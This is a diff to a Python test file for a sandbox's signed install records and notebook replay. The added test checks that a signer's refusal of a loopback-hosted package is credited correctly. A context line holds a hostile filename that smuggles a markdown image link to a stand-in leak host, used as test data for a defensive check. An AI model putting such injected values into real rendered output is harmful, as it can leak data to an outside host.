@@ -175,3 +175,45 @@ def test_a_replay_lists_installs_from_a_hostile_bundle_as_text_never_as_markdown
     assert "``` tinypkg-1.0.tar.gz`` x\\x0a# Owned ![i](https://leak.example/?d=1) | ```" in line
     assert line.endswith(": installed") and sha(b"t") in line
     assert cell.metadata["tkbox"]["installs"][0]["index"] == hostile  # the rows as the bundle has them
+
+
+class _PolicyThatLetsAHostBy(Policy):
+    """A box policy whose code is wrong about hosts: it decides every package crossing as `[packages] allow` does,
+    never reading the host (what the signer's own pack is for, tests/test_door_table.py)."""
+
+    def decide(self, facts):
+        if facts.get("door") == "packages":
+            return super().decide({k: v for k, v in facts.items()
+                                   if k not in ("host", "addresses", "address", "address_class", "source")})
+        return super().decide(facts)
+
+
+def test_a_replay_names_the_signer_s_rule_when_the_signer_refused_a_file_the_box_policy_allowed(signer, tmp_path):
+    """A file the box policy allowed (packages.allow[0]) and the signer refused (its host is loopback, TKB-METADATA-
+    ADDR and TKB-METADATA-ADDRS): the installs cell names the signer's rules, the record's rule_ids, never the box
+    policy's rule as if that had refused it; a file the box policy refused still names the box policy's rule."""
+    from tkbox_nb.audit.replay import to_notebook
+    rec = RunRecorder(signer, _PolicyThatLetsAHostBy.from_toml(POLICY), {"backend": "bwrap", "isolation": "none",
+                                                                         "image_digest": "none"})
+    rec.open()
+    loopback = {"host": "127.0.0.1", "addresses": ["127.0.0.1"], "address": "127.0.0.1"}
+    bad = rec.decide("packages", "file", {
+        "project": "tinypkg", "filename": "tinypkg-1.0.tar.gz", "version": "1.0", "sha256": sha(b"t"),
+        "got_sha256": sha(b"t"), "size": 1, "source": "index", "index": "http://127.0.0.1/simple/", "run_bytes": 0,
+        **loopback})
+    by_box = rec.decide("packages", "file", {
+        "project": "evilpkg", "filename": "evilpkg-1.0.tar.gz", "version": "1.0", "sha256": sha(b"e"),
+        "got_sha256": sha(b"e"), "size": 1, "source": "cache", "index": "http://198.18.37.2:8080/simple/",
+        "run_bytes": 0})
+    rec.close("test done")
+    assert bad.args["verdict"] == "allow" and bad.args["rule"] == "packages.allow[0]" and not bad.allowed
+    assert bad.rule_ids == ["TKB-METADATA-ADDR", "TKB-METADATA-ADDRS"] and not by_box.allowed
+    run = open_run(rec.write_bundle(tmp_path / "s.tkb"))
+    cell = to_notebook(run).cells[-1]
+    signer_line, box_line = [x for x in cell.source.splitlines() if x.startswith("- ")]
+    assert signer_line.endswith(": refused by the signer (`TKB-METADATA-ADDR, TKB-METADATA-ADDRS`)"), signer_line
+    assert "packages.allow" not in signer_line
+    assert box_line.endswith(": refused (`packages.deny[0]`)"), box_line
+    assert [r["rule_ids"] for r in cell.metadata["tkbox"]["installs"]] == ["TKB-METADATA-ADDR,TKB-METADATA-ADDRS",
+                                                                          "TKB-POLICY-DENY"]
+    assert run.installs["rule_ids"].tolist() == ["TKB-METADATA-ADDR,TKB-METADATA-ADDRS", "TKB-POLICY-DENY"]
